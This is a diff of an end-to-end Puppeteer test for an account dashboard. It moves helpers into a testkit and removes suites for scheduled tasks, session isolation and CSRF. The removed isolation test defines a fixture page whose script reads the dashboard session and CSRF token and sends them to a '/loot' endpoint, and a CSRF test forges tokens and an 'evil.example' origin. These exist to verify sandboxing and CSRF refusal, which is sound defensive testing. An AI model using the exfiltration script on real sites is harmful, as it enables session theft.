@@ -9,7 +9,11 @@ import {
   httpsRequest,
   imageInfo,
   launchTestBrowser,
+  openDashboardView,
+  shootDashboard,
+  shown,
   startFixtureServer,
+  submitDashboardSignIn,
   startTestStack,
   startWebhookReceiver,
   until,
@@ -21,21 +25,12 @@ import {
 } from '@app/testkit';
 
 // The account dashboard in a real browser (Debian's Chromium) against the whole stack as `npm start`
-// runs it. One account goes through the page the way its owner would: sign-in, usage, playground, a task
-// that runs every minute, renders, keys and their rotation, an expired session, sign-out. Screenshots of
+// runs it. One account goes through the page the way its owner would: sign-in, usage, playground, renders,
+// keys and their rotation, an expired session, sign-out (its tasks: dashboard-tasks.e2e.spec.ts; what its
+// session is kept from: dashboard-isolation.e2e.spec.ts). Screenshots of
 // every page at 375 px and 1280 px go to a folder under the OS temp dir (printed below).
 
 const SHOTS = join(tmpdir(), 'dashboard-screenshots');
-
-/** Where /steal's script ran, each time it did (and what it read there, after a space). */
-const loot: string[] = [];
-const stealingPage = (home: string) => `<title>Scraped</title><p>An ordinary page.</p><script>
-  window.__ran = true;
-  const home = ${JSON.stringify(home)};
-  fetch('/dashboard/api/session', { credentials: 'include' })
-    .then((r) => r.text(), () => 'unreadable')
-    .then((text) => fetch(home + '/loot?from=' + encodeURIComponent(location.origin + ' ' + text)));
-</script>`;
 
 let stack: TestStack;
 let fixture: FixtureServer;
@@ -53,14 +48,6 @@ beforeAll(async () => {
   mkdirSync(SHOTS, { recursive: true });
   console.log(`dashboard screenshots: ${SHOTS}`);
   fixture = await startFixtureServer({
-    '/dash-task': (_req, res) => void res.writeHead(200, { 'content-type': 'text/html' }).end('<title>Task</title><h1 style="color:#2450c7">Dashboard task</h1>'),
-    // Someone else's page, scraped through the API: its script reads the dashboard's session (CSRF token
-    // included) from whatever origin it runs on and sends it home.
-    '/steal': (req, res) => void res.writeHead(200, { 'content-type': 'text/html' }).end(stealingPage(`http://${req.headers.host}`)),
-    '/loot': (req, res) => {
-      loot.push(new URL(req.url ?? '/', 'http://fixture').searchParams.get('from') ?? '');
-      res.writeHead(204, { 'access-control-allow-origin': '*' }).end();
-    },
   });
   // Two edges: a session opened on one must hold (and end) on the other.
   stack = await startTestStack({ edges: 2, env: { ALLOW_PRIVATE_TARGETS: '1' } });
@@ -92,28 +79,10 @@ const digits = (s: string) => Number(s.replace(/[^0-9]/g, ''));
 /** Polls gently (the account's rate limit counts every API call the test makes). */
 const poll = (check: () => Promise<boolean>, timeoutMs: number, what: string) =>
   until(async () => (await check()) || (await new Promise((r) => setTimeout(r, 1_000)), false), timeoutMs, what);
-const visible = (selector: string) => page.waitForSelector(selector, { visible: true, timeout: 30_000 });
-
-async function shoot(name: string): Promise<void> {
-  for (const width of [375, 1280]) {
-    await page.setViewport({ width, height: width === 375 ? 812 : 900 });
-    await new Promise((r) => setTimeout(r, 150));
-    await page.screenshot({ path: join(SHOTS, `${name}-${width}.png`), fullPage: true });
-  }
-}
-
-async function signInThroughPage(accessKey: string, secretKey: string): Promise<void> {
-  await page.$eval('#access-key', (el) => ((el as HTMLInputElement).value = ''));
-  await page.$eval('#secret-key', (el) => ((el as HTMLInputElement).value = ''));
-  await page.type('#access-key', accessKey);
-  await page.type('#secret-key', secretKey);
-  await page.click('#sign-in-form button[type="submit"]');
-}
-
-async function goTo(view: string): Promise<void> {
-  await page.evaluate((v) => (location.hash = v), view);
-  await visible(`#view-${view}`);
-}
+const visible = (selector: string) => shown(page, selector);
+const shoot = (name: string) => shootDashboard(page, SHOTS, name);
+const signInThroughPage = (accessKey: string, secretKey: string) => submitDashboardSignIn(page, accessKey, secretKey);
+const goTo = (view: string) => openDashboardView(page, view);
 
 describe('Account dashboard', () => {
   describe('When the account has rendered, synchronously and asynchronously', () => {
@@ -332,88 +301,6 @@ describe('Account dashboard', () => {
     });
   });
 
-  describe('When the owner manages a task', () => {
-    let taskId: number;
-    // Read through the dashboard's own API (the page's session), which costs no rate limit.
-    const runsOf = async () => {
-      const { tasks } = await page.evaluate(async () => (await fetch('/dashboard/api/tasks')).json() as Promise<{ tasks: { id: number; runs: number; enabled: boolean }[] }>);
-      return tasks.find((t) => t.id === taskId) ?? { runs: -1, enabled: undefined };
-    };
-    const historyRows = async () => {
-      await page.click(`tr[data-task-id="${taskId}"] .row-actions button`);
-      await visible('#task-runs');
-      return page.$$eval('#task-runs-body tr', (rows) =>
-        rows.map((r) => ({ trigger: r.getAttribute('data-trigger'), outcome: r.querySelector('.status')?.textContent, link: r.querySelector('a')?.getAttribute('href') ?? null })),
-      );
-    };
-
-    it('should show the API validation messages beside the fields', async () => {
-      await goTo('tasks');
-      await page.type('#task-query', 'format=png');
-      await page.$eval('#task-timezone', (el) => ((el as HTMLInputElement).value = 'Mars/Olympus'));
-      await page.click('#task-form button[type="submit"]');
-      await page.waitForFunction(() => (document.getElementById('task-name-error')?.textContent ?? '').length > 0);
-      const api = (
-        await call('POST', '/v1/tasks', { headers: withKey(owner.accessKey), json: { name: '', api: 'screenshot', query: 'format=png', frequency: 'every_day', timezone: 'Mars/Olympus', enabled: true } })
-      ).json<{ details: { parameter: string; message: string }[] }>();
-      const message = (p: string) => api.details.filter((d) => d.parameter === p).map((d) => d.message).join(' ');
-      expect(await textOf('#task-name-error')).toBe(message('name'));
-      expect(await textOf('#task-timezone-error')).toBe(message('timezone'));
-      expect(await textOf('#task-query-error')).toBe(api.details.filter((d) => d.parameter.startsWith('query')).map((d) => d.message).join(' '));
-      await shoot('tasks-invalid');
-    });
-
-    it('should create an every_minute task and show it run on its schedule and when asked, its history growing with results', async () => {
-      await page.$eval('#task-query', (el) => ((el as HTMLInputElement).value = ''));
-      await page.$eval('#task-timezone', (el) => ((el as HTMLInputElement).value = 'Etc/UTC'));
-      await page.type('#task-name', 'Dashboard fixture');
-      await page.type('#task-query', `url=${encodeURIComponent(`${fixture.origin}/dash-task`)}&format=png`);
-      await page.select('#task-frequency', 'every_minute');
-      await page.click('#task-form button[type="submit"]');
-      await page.waitForSelector('#tasks-table tr[data-task-id]', { timeout: 30_000 });
-      taskId = Number(await page.$eval('#tasks-table tr[data-task-id]', (r) => r.getAttribute('data-task-id')));
-      expect(await page.$eval('#task-name-error', (el) => el.textContent)).toBe('');
-
-      await poll(async () => (await runsOf()).runs >= 1, 80_000, 'the first run');
-      await poll(async () => (await historyRows()).some((r) => r.outcome === 'succeeded'), 40_000, 'a succeeded run in the history');
-      const first = await historyRows();
-      expect(first.map((r) => r.trigger)).toContain('schedule');
-      // The second run is asked for with the row's Run now button rather than waited for a minute.
-      await page.click(`tr[data-task-id="${taskId}"] button[aria-label$=" now"]`);
-      await poll(async () => (await runsOf()).runs >= 2, 80_000, 'the second run');
-      await poll(async () => (await historyRows()).filter((r) => r.outcome === 'succeeded').length >= 2, 40_000, 'the history growing');
-      const grown = await historyRows();
-      expect(grown.length).toBeGreaterThan(first.length);
-      expect(fixture.hits('/dash-task')).toBeGreaterThanOrEqual(2);
-      const result = await httpsRequest(grown.find((r) => r.link)!.link!.replace(base, `https://127.0.0.1:${stack.port}`), { ca: stack.certPem, servername: 'localhost' });
-      expect(result.status).toBe(200);
-      expect(await imageInfo(result.body)).toMatchObject({ format: 'png' });
-      await goTo('overview');
-      await goTo('tasks');
-      await page.waitForFunction((id) => Number(document.querySelector(`tr[data-task-id="${id}"] .runs`)?.textContent) >= 2, {}, taskId);
-      await historyRows();
-      await shoot('tasks');
-    }, 240_000);
-
-    it('should disable it, run it once now all the same, then delete it', async () => {
-      await page.click(`tr[data-task-id="${taskId}"] input[role="switch"]`);
-      await poll(async () => (await runsOf()).enabled === false, 10_000, 'the task disabled');
-      expect((await call('GET', `/v1/tasks/${taskId}`, { headers: withKey(owner.accessKey) })).json()).toMatchObject({ enabled: false });
-
-      const hits = fixture.hits('/dash-task');
-      const manual = async () => (await historyRows()).filter((r) => r.trigger === 'manual' && r.outcome === 'succeeded').length;
-      const manualBefore = await manual();
-      await page.click(`tr[data-task-id="${taskId}"] button[aria-label$=" now"]`);
-      await poll(async () => (await manual()) > manualBefore, 40_000, 'the run asked for now, succeeded');
-      expect(fixture.hits('/dash-task')).toBeGreaterThan(hits);
-
-      page.once('dialog', (d) => void d.accept());
-      await page.click(`tr[data-task-id="${taskId}"] button[aria-label^="Delete"]`);
-      await page.waitForFunction((id) => !document.querySelector(`tr[data-task-id="${id}"]`), {}, taskId);
-      expect((await call('GET', `/v1/tasks/${taskId}`, { headers: withKey(owner.accessKey) })).status).toBe(404);
-    });
-  });
-
   describe('When the owner opens Renders', () => {
     it('should list the async render with its result link and webhook delivery', async () => {
       await goTo('renders');
@@ -426,50 +313,6 @@ describe('Account dashboard', () => {
       const file = await httpsRequest(link.replace(base, `https://127.0.0.1:${stack.port}`), { ca: stack.certPem, servername: 'localhost' });
       expect(file.status).toBe(200);
       await shoot('renders');
-    });
-  });
-
-  describe('When the signed-in owner opens a page someone scraped through the API', () => {
-    it("should show it without running its scripts, so nothing on the dashboard's origin can be read", async () => {
-      const other = await admin.create('scale', 'Another account');
-      const stealing = `${fixture.origin}/steal`;
-      const tab = await browser.newPage();
-      try {
-        // The script works: opened at its own origin it runs (and can read nothing of ours).
-        await tab.goto(stealing, { waitUntil: 'load' });
-        expect(await tab.evaluate(() => (window as unknown as { __ran?: boolean }).__ran)).toBe(true);
-        // A render link anyone can make with their own key, opened by the signed-in owner.
-        const link = `${base}/v1/scrape?${new URLSearchParams({ access_key: other.accessKey, url: stealing })}`;
-        const opened = await tab.goto(link, { waitUntil: 'load' });
-        expect(opened!.status()).toBe(200);
-        expect(await tab.$eval('p', (el) => el.textContent)).toBe('An ordinary page.');
-        // Had its script run, its report would be here by now (the fixture answers on loopback at once).
-        await new Promise((r) => setTimeout(r, 1_000));
-        expect(loot.filter((from) => from.startsWith(base))).toEqual([]);
-        expect(await tab.evaluate(() => [self.origin, (window as unknown as { __ran?: boolean }).__ran ?? false])).toEqual(['null', false]);
-        expect(opened!.headers()['content-security-policy']).toBe('sandbox');
-      } finally {
-        await tab.close();
-        await page.bringToFront();
-      }
-    });
-  });
-
-  describe('When a change comes without the CSRF token', () => {
-    it('should be refused, and accepted with it', async () => {
-      const token = (await sessionCookie())!;
-      const without = await call('POST', '/dashboard/api/keys/secret', { headers: cookieHeader(token) });
-      expect(without.status).toBe(403);
-      expect(without.json()).toMatchObject({ code: 'csrf_token_invalid' });
-      const wrong = await call('PUT', '/dashboard/api/keys/signatures', { headers: { ...cookieHeader(token), 'x-csrf-token': 'forged' }, json: { required: true } });
-      expect(wrong.status).toBe(403);
-      const { csrf_token } = (await call('GET', '/dashboard/api/session', { headers: cookieHeader(token) })).json<{ csrf_token: string }>();
-      const crossSite = await call('POST', '/dashboard/api/keys/secret', {
-        headers: { ...cookieHeader(token), 'x-csrf-token': csrf_token, origin: 'https://evil.example' },
-      });
-      expect(crossSite.status).toBe(403);
-      const withToken = await call('POST', '/dashboard/api/keys/secret', { headers: { ...cookieHeader(token), 'x-csrf-token': csrf_token } });
-      expect(withToken.status).toBe(200);
     });
   });
 
